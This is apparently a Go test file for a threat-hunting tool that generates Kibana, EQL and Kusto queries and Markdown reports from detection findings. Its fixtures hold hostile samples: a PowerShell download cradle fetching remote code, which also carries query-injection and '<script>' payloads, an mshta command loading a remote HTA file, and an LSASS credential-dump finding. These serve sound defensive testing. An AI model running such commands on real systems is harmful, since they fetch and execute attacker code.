package report

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/huntflow/huntflow"
	"github.com/huntflow/huntflow/kql"
)

func kibanaFixture() huntflow.HuntResult {
	t0 := time.Date(2023, 8, 15, 9, 53, 0, 0, time.UTC)
	hostile := `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a') or EventID:* and not (x)" ` + "`n# Heading\n<script>alert(1)</script>"
	return huntflow.HuntResult{
		HuntID:  "h",
		Windows: []huntflow.Window{{Start: t0, End: t0.Add(5 * time.Minute)}},
		Findings: []huntflow.Finding{
			{ID: "f1", Title: "LSASS read", RuleID: "r1", Severity: huntflow.SeverityCritical, Host: "WS01", Image: `C:\Users\bob\Downloads\dump"er.exe`,
				Techniques: []string{"T1003.001"}, Tactics: []string{"credential-access"}, FirstSeen: t0.Add(2 * time.Minute),
				Events: []huntflow.EventRef{{ID: "e1", Time: t0.Add(2 * time.Minute), Host: "WS01", EventID: 10, Channel: "Microsoft-Windows-Sysmon/Operational",
					Image: `C:\Users\bob\Downloads\dump"er.exe`, Target: `C:\Windows\system32\lsass.exe`}}},
			{ID: "f2", Title: "Download cradle", RuleID: "r2", Severity: huntflow.SeverityHigh, Host: "WS01", Image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				CommandLine: hostile, Techniques: []string{"T1059.001"}, Tactics: []string{"execution"}, FirstSeen: t0.Add(time.Minute),
				Events: []huntflow.EventRef{{ID: "e2", Time: t0.Add(time.Minute), Host: "WS01", EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational",
					Image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, CommandLine: hostile, ParentImage: `C:\Windows\explorer.exe`}}},
		},
	}
}

// docOf shows a cited event to KQL under the Sysmon field names, as the
// store would.
func docOf(e huntflow.EventRef) kql.MapDoc {
	d := kql.MapDoc{"EventID": strconv.Itoa(e.EventID), "Hostname": e.Host}
	switch e.EventID {
	case 10, 8:
		d["SourceImage"], d["TargetImage"] = e.Image, e.Target
	case 4688:
		d["NewProcessName"], d["CommandLine"] = e.Image, e.CommandLine
	default:
		d["Image"], d["CommandLine"], d["ParentImage"] = e.Image, e.CommandLine, e.ParentImage
	}
	return d
}

func TestKibanaQueriesParseAndFindTheirFinding(t *testing.T) {
	r := kibanaFixture()
	qs := HuntingQueries(r, QueryOptions{})
	var kib, eql int
	for _, q := range qs {
		switch q.Language {
		case huntflow.LangKibana:
			kib++
			n, err := kql.Parse(q.Text)
			if err != nil {
				t.Errorf("query %q does not parse: %v", q.Title, err)
				continue
			}
			if q.Finding == "" {
				continue
			}
			for _, f := range r.Findings {
				if f.ID == q.Finding && !kql.Eval(n, docOf(f.Events[0])) {
					t.Errorf("query %q does not match its own finding's event:\n%s", q.Title, q.Text)
				}
			}
		case huntflow.LangEQL:
			eql++
			if !strings.HasPrefix(q.Text, "sequence by Hostname with maxspan=") || strings.Count(q.Text, "[") != 2 {
				t.Errorf("EQL sequence:\n%s", q.Text)
			}
			if !strings.Contains(q.Text, `"*\\dump\"er.exe"`) {
				t.Errorf("EQL string not escaped:\n%s", q.Text)
			}
		case huntflow.LangSentinel:
			t.Errorf("Kusto written without being asked for")
		}
	}
	if kib < minQueries || eql != 1 {
		t.Fatalf("%d Kibana and %d EQL queries: %+v", kib, eql, qs)
	}
	findingQueries := 0
	for _, q := range qs {
		if q.Finding != "" {
			findingQueries++
		}
	}
	if findingQueries != 2 {
		t.Errorf("%d finding queries, want one per finding", findingQueries)
	}
}

func TestKibanaQueriesECSAndLanguages(t *testing.T) {
	r := kibanaFixture()
	qs := HuntingQueries(r, QueryOptions{Fields: ECSFields, Languages: []string{huntflow.LangKibana, huntflow.LangSentinel}})
	var sentinel bool
	for _, q := range qs {
		switch q.Language {
		case huntflow.LangKibana:
			if strings.Contains(q.Text, "EventID") || strings.Contains(q.Text, "Hostname") || !strings.Contains(q.Text, "event.code") {
				t.Errorf("ECS query uses Sysmon names: %s", q.Text)
			}
		case huntflow.LangSentinel:
			sentinel = true
		case huntflow.LangEQL:
			t.Errorf("EQL not asked for")
		}
	}
	if !sentinel {
		t.Error("no Kusto query though asked for")
	}
}

func TestReportShowsQueryHits(t *testing.T) {
	r := kibanaFixture()
	r.Queries = HuntingQueries(r, QueryOptions{})
	w, s := 3, 1200
	r.Queries[0].WindowHits, r.Queries[0].StoreHits = &w, &s
	md := render(t, r)
	if !strings.Contains(md, "**Hits:** 3 events in the hunt's windows, 1,200 in the whole store") {
		t.Errorf("hit counts missing:\n%s", md)
	}
	if !strings.Contains(md, "(Kibana KQL)") || !strings.Contains(md, "```eql\nsequence by") {
		t.Errorf("languages not labelled:\n%s", md)
	}
	for _, line := range strings.Split(md, "\n") {
		if strings.Contains(line, "<script>") && !strings.HasPrefix(line, "    ") && !strings.Contains(line, "`") {
			t.Errorf("raw HTML outside code reached the report: %q", line)
		}
	}
}

func TestFileArgument(t *testing.T) {
	tests := []struct {
		line, image, want string
	}{
		{`rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef`, "rundll32.exe", "rtcpef.dll"},
		{`"C:\Windows\System32\rundll32.exe" "C:\Temp\x y\evil.dll",Start`, "rundll32.exe", "evil.dll"},
		{`powershell -ep bypass -f C:\Users\bob\run.PS1`, "powershell.exe", "run.PS1"},
		{`mshta.exe http://203.0.113.7/a.hta`, "mshta.exe", "a.hta"},
		{`C:\Windows\System32\svchost.exe -k netsvcs`, "svchost.exe", ""},
		{`cmd.exe /c whoami`, "cmd.exe", ""},
	}
	for _, tc := range tests {
		got, ok := fileArgument(tc.line, tc.image)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("fileArgument(%q) = %q, %v; want %q", tc.line, got, ok, tc.want)
		}
		if ok {
			n := kql.Match{Field: "CommandLine", Value: kql.Wildcard(true, true, got)}
			if !kql.Eval(n, kql.MapDoc{"CommandLine": tc.line}) {
				t.Errorf("the query on %q does not match its own line", got)
			}
		}
	}
}
